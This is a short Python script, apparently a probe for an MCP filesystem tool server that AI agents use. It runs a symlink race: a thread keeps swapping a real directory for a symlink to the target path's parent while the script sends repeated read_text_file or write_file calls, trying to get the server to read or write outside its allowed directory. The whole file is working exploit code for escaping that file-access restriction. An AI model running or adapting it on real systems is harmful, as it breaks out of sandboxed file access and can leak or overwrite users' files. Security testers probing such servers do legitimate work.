# Has the node read or write a name that is now a file and now a link: tool_race.py read|write PATH TEXT
import json, os, socket, sys, threading
how, path, text = sys.argv[1:]
s = socket.socket(socket.AF_UNIX); s.settimeout(8); s.connect(os.environ["IOI_MCP_SOCKET"])
lines = s.makefile("rw")
def say(message): lines.write(json.dumps({"jsonrpc": "2.0", **message}) + "\n"); lines.flush()
about = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "x", "version": "1"}}
say({"id": 1, "method": "initialize", "params": about}); lines.readline()
say({"method": "notifications/initialized"})
os.makedirs("d", exist_ok=True); base = os.path.basename(path)
open("d/" + base, "w").write("nothing"); os.path.lexists("l") or os.symlink(os.path.dirname(path), "l")
over = False
def flip():
    while not over:
        for a, b in (("d", "now"), ("now", "d"), ("l", "now"), ("now", "l")):
            try: os.rename(a, b)
            except OSError: pass
t = threading.Thread(target=flip); t.start()
tool = "read_text_file" if how == "read" else "write_file"
for n in range(2, 42):
    name = os.path.join(os.getcwd(), "now", base if how == "read" else f"{n}-{text}")
    given = {"path": name} if how == "read" else {"path": name, "content": text}
    say({"id": n, "method": "tools/call", "params": {"name": tool, "arguments": given}})
    while True:
        line = lines.readline()
        if not line or json.loads(line).get("id") == n: break
    print(line[:2000])
over = True; t.join()
